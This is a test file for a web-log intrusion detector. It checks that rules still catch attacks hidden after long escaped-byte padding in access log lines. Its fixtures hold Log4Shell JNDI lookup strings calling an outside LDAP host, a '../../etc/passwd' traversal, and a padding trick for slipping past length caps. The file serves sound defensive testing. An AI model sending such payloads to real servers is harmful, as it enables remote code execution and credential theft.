/**
 * A client may pad a field with bytes above 0x7F: each is logged as `\xHH`, four characters for one
 * byte, so a request line or header Apache and nginx accept (8 KiB) is up to 32 Ki characters in the
 * log. Rules test every field up to MAX_PATH_TESTED characters (32,768): a payload after such padding
 * is still seen (review: helper; with 8,192 it was not).
 */
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../../src/config/load.js';
import { selectRules } from '../../../src/pipeline/pipeline.js';
import { RuleMatcher } from '../../../src/detect/rule-matcher.js';
import { createLineParser } from '../../../src/parse/line-parser.js';
import { MAX_PATH_TESTED } from '../../../src/detect/path-pattern.js';

// 2,060 bytes on the wire (é as UTF-8, 1,030 times), 8,240 characters in the log.
const PAD = '\\xC3\\xA9'.repeat(1030);
// The most a client can make Apache log in front of a payload in one 8190-byte field.
const FULL_PAD = '\\xC3'.repeat(8000);
const T = '02/Dec/2026:10:00:00 +0000';

/** The rules (the live agent's matcher: prefilter, memos, full match) that count the line. */
function countedBy(line: string): string[] {
  const m = new RuleMatcher(selectRules(loadConfig({ env: { BANHAMMER_RULES: 'exploit-probes,sensitive-paths' }, hostname: 'x' })));
  const ev = createLineParser('auto')(line);
  if (typeof ev === 'string') throw new Error(`skipped: ${ev}`);
  const n = m.match(ev);
  return [...m.matched.slice(0, n)].map((i) => m.rules[i]!.name);
}

describe('payloads after escaped padding', () => {
  it('is within the cap: a whole 8 KiB field escaped at worst', () => {
    expect(MAX_PATH_TESTED).toBeGreaterThanOrEqual(4 * 8190);
  });
  it.each([
    ['User-Agent', `198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 10 "-" "${PAD}\${jndi:ldap://198.18.0.99/a}"`, 'exploit-probes'],
    ['referer', `198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 10 "${PAD}\${jndi:ldap://198.18.0.99/a}" "Mozilla/5.0"`, 'exploit-probes'],
    ['User-Agent, full pad', `198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 10 "-" "${FULL_PAD}\${jndi:ldap://198.18.0.99/a}"`, 'exploit-probes'],
    ['query', `198.18.0.1 - - [${T}] "GET /?q=${PAD}&x=\${jndi:ldap://198.18.0.99/a} HTTP/1.1" 200 10 "-" "Mozilla/5.0"`, 'exploit-probes'],
    ['path', `198.18.0.1 - - [${T}] "GET /${PAD}/../../etc/passwd HTTP/1.1" 404 10 "-" "Mozilla/5.0"`, 'sensitive-paths'],
  ])('in the %s', (_where, line, rule) => {
    expect(countedBy(line)).toContain(rule);
  });
});
